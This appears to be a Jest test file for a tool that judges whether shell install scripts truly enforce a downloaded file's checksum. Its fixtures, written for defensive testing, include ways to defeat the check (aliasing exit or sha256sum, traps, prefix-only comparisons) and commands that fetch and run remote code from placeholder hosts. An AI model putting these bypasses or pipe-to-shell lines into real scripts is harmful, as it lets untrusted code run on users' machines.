import { expect, test } from '@jest/globals';
import { analyse } from '../../src/analysis/analyse.ts';
import { toScript } from '../../src/script/to-script.ts';
import { verdictOf } from '../../src/verdict/verdict-of.ts';

const want = '729d2fb0ffd61b13593c8824a5ac3fe8d5abff8114b13a58f43c614f227cfd8b';
const get = 'curl -fsSL https://example.com/tool.tgz -o "$f"';
const hash = `got="$(sha256sum "$f" | cut -d ' ' -f 1)"`;
const compare = 'if [ "$got" != "$want" ]; then exit 1; fi';
const list = 'echo "$want  $f" | sha256sum -c -';
const unpack = 'tar -xzf "$f" -C "$HOME/.local/bin"';
const right = [get, hash, compare, unpack];
const elsewhere = '"https://example.com/extra" -o /usr/local/bin/extra';

function verdict(lines: readonly string[]): string {
  const head = ['#!/bin/bash', 'set -eu', 'f="$(mktemp -d)/tool.tgz"', `want=${want}`];
  return verdictOf(analyse(toScript('install.sh', [...head, ...lines, ''].join('\n')))).verdict;
}

test('what they are made of is right', () => {
  expect(verdict(right)).toBe('likely');
  expect(verdict([get, list, unpack])).toBe('likely');
});

test.each([
  [
    'the letters of a number end nothing',
    [get, `until ${list}; do n=$((n+1)); break; done`, unpack],
  ],
  ['printf sets what is expected', [get, hash, 'printf -v want %s "$got"', compare, unpack]],
  ['mapfile sets what is expected', [get, hash, 'mapfile -t want <<<"$got"', compare, unpack]],
  [
    'another name for a variable',
    ['declare -n other=want', get, hash, 'other="$got"', compare, unpack],
  ],
  [
    'a hash of a copy',
    [get, 'cp "$f" "$f.1"', `want="$(sha256sum "$f.1" | cut -d ' ' -f 1)"`, hash, compare, unpack],
  ],
  [
    'the first letters',
    [
      get,
      hash,
      '[ "$(echo "$got" | cut -c 1-2)" = "$(echo "$want" | cut -c 1-2)" ] || exit 1',
      unpack,
    ],
  ],
  [
    'letters that are cut off by each other',
    [get, hash, '[ "${got%${got#?}}" = "${want%${want#?}}" ] || exit 1', unpack],
  ],
  [
    'how many letters',
    [get, hash, '[ "$(echo "$got" | wc -c)" = "$(echo "$want" | wc -c)" ] || exit 1', unpack],
  ],
  [
    'fetched into it afterwards',
    [get, hash, compare, 'sed -i "s/a/$(curl -fsSL https://example.com/x)/" "$f"', unpack],
  ],
  ['no letters at all', [get, hash, 'echo "$want" | grep -q "$got" || exit 1', unpack]],
  ['a pattern of no letters', [get, hash, '[[ "$want" == "$got"* ]] || exit 1', unpack]],
  [
    'every other line',
    [
      get,
      'command -v sha256sum || exit 1',
      hash,
      'echo "$want x" | grep -qv "$got" || exit 1',
      unpack,
    ],
  ],
  ['any letters', [get, hash, 'case "$got" in [0-9a-f]*) ;; *) exit 1 ;; esac', unpack]],
  ['a valid hash', [get, hash, 'echo "$got" | grep -qE "^[0-9a-f]{64}$" || exit 1', unpack]],
  ['both beside each other', [get, hash, '[[ "$got $want" =~ $want ]] || exit 1', unpack]],
  ['an exit code that is none of it', ['set +e', get, list, '[ $? -eq 2 ] && exit 1', unpack]],
  ['the name in the answer', ['set +e', get, `${list} 2>&1 | grep -q tool.tgz || exit 1`, unpack]],
  ['another file is checked', [get, 'echo "$want  LICENSE" | sha256sum -c -', unpack]],
  ['a trap before each command', ["trap 'want=$got' DEBUG", ...right]],
  ['a trap that goes on', [`trap '${unpack}' ERR`, get, list, unpack]],
  ['a trap that downloads', ["trap 'curl https://example.com/x | sh' EXIT", ...right]],
  ['an alias', ['shopt -s expand_aliases', 'alias exit=:', ...right]],
  ['an alias that says', ['shopt -s expand_aliases', 'alias sha256sum="echo 0"', ...right]],
  ['an alias in place of a function', ['alias f_x="echo 0"', 'f_x() { :; }', ...right]],
  ['an alias with another command', ['alias f_x="echo 0; exit 0"', ...right]],
  ['an alias with a substitution', ['alias f_x="echo \\"$(curl e.org | sh)\\""', ...right]],
  [
    'a command in a list',
    [...right, `c=(curl ${elsewhere})`, '"${c[@]}"', 'chmod +x /usr/local/bin/extra'],
  ],
  ['a program in front', [...right, `torsocks curl ${elsewhere}`, 'chmod +x /usr/local/bin/extra']],
  ['find runs it', [...right, `find . -maxdepth 0 -exec curl ${elsewhere} \\;`]],
  [
    'find runs what was downloaded',
    [
      'curl https://example.com/x -o /tmp/q/x.sh',
      ...right,
      "find /tmp/q -name '*.sh' -exec sh {} \\;",
      'rm /tmp/q/x.sh',
    ],
  ],
  ['xargs fills it in', [...right, 'curl https://example.com/list | xargs -I{} sh -c "{}"']],
  ['text for a shell', [...right, "bash <<'EOF'\ncurl https://example.com/x | sh\nEOF"]],
  ['text that nobody reads', [...right, 'echo Y3VybCAuLi4= | base64 -d | sh']],
  ['standard input by its name', [...right, 'curl https://example.com/x | bash /dev/stdin']],
  ['another descriptor', [...right, 'exec 3< <(curl https://example.com/x)', 'bash <&3']],
  [
    'a network of its own',
    [...right, 'openssl s_client -connect example.com:443 > /usr/local/bin/extra'],
  ],
  ['awk starts it', [...right, `awk 'BEGIN { system("curl https://example.com/x | sh") }'`]],
  ['a list of options', [...right, 'curl -K options']],
])('nobody reads of it that it is enforced: %s', (_, lines) => {
  expect(['open', 'none', 'inconclusive']).toContain(verdict(lines));
});

test('a line of sixty thousand wrappers is left', () => {
  expect(verdict([`${'sudo '.repeat(60_000)} sh`, ...right])).toBe('inconclusive');
});

test.each([
  ['a hash that is known to have letters', [hash, '[ -n "$got" ] || exit 1']],
  ['a program that is known to be there', ['command -v sha256sum >/dev/null || exit 1', hash]],
  ['a pipe that fails with its program', ['set -o pipefail', hash]],
])('a pattern that begins with %s says enough', (_, lines) => {
  const fits = 'case "$want" in "$got"*) ;; *) exit 1 ;; esac';
  expect(verdict([get, ...lines, fits, unpack])).toBe('likely');
  expect(verdict([get, hash, fits, unpack])).toBe('open');
});
